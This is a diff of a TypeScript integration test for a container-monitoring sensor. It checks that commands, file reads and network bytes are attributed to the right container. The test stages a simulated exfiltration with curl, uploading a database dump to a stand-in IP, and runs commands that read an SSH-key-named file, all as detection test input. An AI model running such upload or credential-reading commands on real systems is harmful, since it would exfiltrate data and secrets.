@@ -13,24 +13,26 @@ import type { HuntResult } from '../src/model/hunt-result.js';
 import { hunt } from '../src/pipeline.js';
 import { KernelSettings } from '../src/sense/kernel-settings.js';
 import { type SensorStatus, startSensors } from '../src/sense/sense.js';
+import { whySkip } from './live-lab.js';
 import { root } from './recorded.js';
-import { call, SenseLab, whyNoLab } from './sense-lab.js';
+import { SenseLab } from './sense-lab.js';
 
-const whyNot = whyNoLab();
-if (whyNot !== null) console.log(`SKIP: the host sensor is not tested: ${whyNot}`);
+const whyNot = await whySkip('the host sensor', ['bpftrace', 'curl', 'pgrep']);
 
 const UPLOAD_BYTES = 8 * 1024 * 1024;
 /** Longer than any one text the kernel side can tell, with everything in it that breaks careless formats. */
 const LONG_ARGUMENT = `note: ${'n'.repeat(700)} "quoted" \\x00 back\\slash\n{"t":"up"}`;
 const UPLOAD = ['curl', '-s', '-w', LONG_ARGUMENT, '-T', '/tmp/db.dump', 'http://198.51.100.10/drop/db.dump'];
-const SHORT_LIFE = 'echo brief > /tmp/brief; cat /root/.ssh/id_rsa; /bin/missing; cd /tmp; echo more > left';
+const SHORT_LIFE =
+  'echo none > /root/id_rsa; echo brief > /tmp/brief; cat /root/id_rsa; /bin/missing; cd /tmp; echo more > left';
 
 interface Row {
   [key: string]: unknown;
 }
 
 describe.skipIf(whyNot !== null)('a container that uploads', () => {
-  const lab = new SenseLab();
+  let own: SenseLab;
+  let lab: SenseLab['lab'];
   let folder: string;
   let container: string;
   let brief: string;
@@ -41,22 +43,23 @@ describe.skipIf(whyNot !== null)('a container that uploads', () => {
   let rows: Record<'commands' | 'files' | 'sent', Row[]>;
 
   beforeAll(async () => {
-    folder = await mkdtemp(join(tmpdir(), `swsense-${lab.id}-logs-`));
-    await lab.open();
-    const settings = new KernelSettings(lab.hostNetns);
+    folder = await mkdtemp(join(tmpdir(), 'swsense-logs-'));
+    own = await SenseLab.open();
+    lab = own.lab;
+    const settings = new KernelSettings(lab.hostNamespace);
     const sensors = await startSensors({
       folder,
       engine: lab.engine,
-      netns: lab.hostNetns,
+      netns: lab.hostNamespace,
       accounting: true,
     });
     try {
       running = sensors.status();
       accounting = await settings.read('net/netfilter/nf_conntrack_acct');
-      container = await lab.run('billing');
+      container = await own.run('billing');
       await lab.engine.exec(container, ['sh', '-c', `head -c ${UPLOAD_BYTES} /dev/urandom > /tmp/db.dump`]);
       await lab.engine.exec(container, UPLOAD);
-      brief = await lab.run('brief', ['/bin/sh', '-c', SHORT_LIFE]);
+      brief = await own.run('brief', ['/bin/sh', '-c', SHORT_LIFE]);
       await sleep(3500);
     } finally {
       await sensors.stop();
@@ -82,7 +85,7 @@ describe.skipIf(whyNot !== null)('a container that uploads', () => {
   }, 180_000);
 
   afterAll(async () => {
-    await lab.close();
+    await own.close();
     await rm(folder, { recursive: true, force: true });
   }, 60_000);
 
@@ -123,11 +126,11 @@ describe.skipIf(whyNot !== null)('a container that uploads', () => {
   });
 
   test('bytes agree with what arrived', () => {
-    expect(lab.received).toBe(UPLOAD_BYTES);
+    expect(own.received).toBe(UPLOAD_BYTES);
     const sent = rows.sent.filter((row) => String(row.entity).includes('billing'));
     const bytes = sent.reduce((sum, row) => sum + Number(row.bytes), 0);
-    expect(bytes / lab.received).toBeGreaterThan(0.98);
-    expect(bytes / lab.received).toBeLessThan(1.02);
+    expect(bytes / own.received).toBeGreaterThan(0.98);
+    expect(bytes / own.received).toBeLessThan(1.02);
   });
 
   test('the staged file is told with its bytes', () => {
@@ -138,7 +141,7 @@ describe.skipIf(whyNot !== null)('a container that uploads', () => {
 
   test('no act is booked to another container', () => {
     const own = rows.commands.filter((row) => row.container === brief && row.activity === 'launch');
-    expect(own.map((row) => row.cmd_line)).toEqual([`sh -c '${SHORT_LIFE}'`, 'cat /root/.ssh/id_rsa']);
+    expect(own.map((row) => row.cmd_line)).toEqual([`sh -c '${SHORT_LIFE}'`, 'cat /root/id_rsa']);
   });
 
   test('a container that lives a moment is described, and its acts are its own', () => {
@@ -148,7 +151,7 @@ describe.skipIf(whyNot !== null)('a container that uploads', () => {
       .filter((row) => row.container === brief)
       .map((row) => `${row.activity} ${row.path}`);
     expect(read).toContain('open_write /tmp/brief');
-    expect(read).toContain('read /root/.ssh/id_rsa');
+    expect(read).toContain('read /root/id_rsa');
     expect(rows.commands.filter((row) => row.container === brief)).toContainEqual(
       expect.objectContaining({ activity: 'launch_failed', cmd_line: '' }),
     );
@@ -157,21 +160,23 @@ describe.skipIf(whyNot !== null)('a container that uploads', () => {
   test('sense.json tells of the run', () => {
     const { runs } = JSON.parse(readFileSync(join(folder, 'sense.json'), 'utf8'));
     expect(runs).toHaveLength(1);
-    expect(runs[0]).toMatchObject({ netns: lab.hostNetns, stopped: expect.any(String) });
+    expect(runs[0]).toMatchObject({ netns: lab.hostNamespace, stopped: expect.any(String) });
   });
 });
 
 describe.skipIf(whyNot !== null)('when something breaks', () => {
-  const lab = new SenseLab();
+  let own: SenseLab;
+  let lab: SenseLab['lab'];
   let folder: string;
 
   beforeAll(async () => {
-    folder = await mkdtemp(join(tmpdir(), `swsense-${lab.id}-logs-`));
-    await lab.open();
+    folder = await mkdtemp(join(tmpdir(), 'swsense-logs-'));
+    own = await SenseLab.open();
+    lab = own.lab;
   }, 60_000);
 
   afterAll(async () => {
-    await lab.close();
+    await own.close();
     await rm(folder, { recursive: true, force: true });
   }, 60_000);
 
@@ -179,7 +184,7 @@ describe.skipIf(whyNot !== null)('when something breaks', () => {
     const options = {
       folder: join(folder, 'restart'),
       engine: lab.engine,
-      netns: lab.hostNetns,
+      netns: lab.hostNamespace,
       activity: false,
     };
     const sensors = await startSensors(options);
@@ -188,7 +193,7 @@ describe.skipIf(whyNot !== null)('when something breaks', () => {
       await until(() => sensors.status()[0]!.state === 'off');
       await lab.startEngine();
       await until(() => sensors.status()[0]!.state === 'degraded');
-      const later = await lab.run('later');
+      const later = await own.run('later');
       await until(
         () => sensors.status().length > 0 && readAll(options.folder, 'inspect.ndjson').includes(later),
       );
@@ -210,12 +215,12 @@ describe.skipIf(whyNot !== null)('when something breaks', () => {
   }, 60_000);
 
   test('a sensor that is killed leaves no process, and what it changed is put back', async () => {
-    const counters = () => new KernelSettings(lab.hostNetns).read('net/netfilter/nf_conntrack_acct');
+    const counters = () => new KernelSettings(lab.hostNamespace).read('net/netfilter/nf_conntrack_acct');
     const argv = [
       'sense',
       join(folder, 'crash'),
       '--netns',
-      lab.hostNetns,
+      lab.hostNamespace,
       '--engine',
       lab.engine.socketPath,
     ];
@@ -225,12 +230,12 @@ describe.skipIf(whyNot !== null)('when something breaks', () => {
     });
     await until(() => readAll(folder, 'crash/sense.json') !== '');
     expect(await counters()).toBe('1');
-    const children = call('pgrep', '-P', String(sensor.pid)).trim().split('\n');
+    const children = own.inNetns('pgrep', '-P', String(sensor.pid)).trim().split('\n');
     expect(children.length).toBeGreaterThan(1);
     sensor.kill('SIGKILL');
     await until(() => children.every(isGone));
     expect(await counters()).toBe('1');
-    expect(call(process.execPath, main, 'sense', '--restore')).toContain('nf_conntrack_acct = 0');
+    expect(own.inNetns(process.execPath, main, 'sense', '--restore')).toContain('nf_conntrack_acct = 0');
     expect(await counters()).toBe('0');
   }, 60_000);
 });
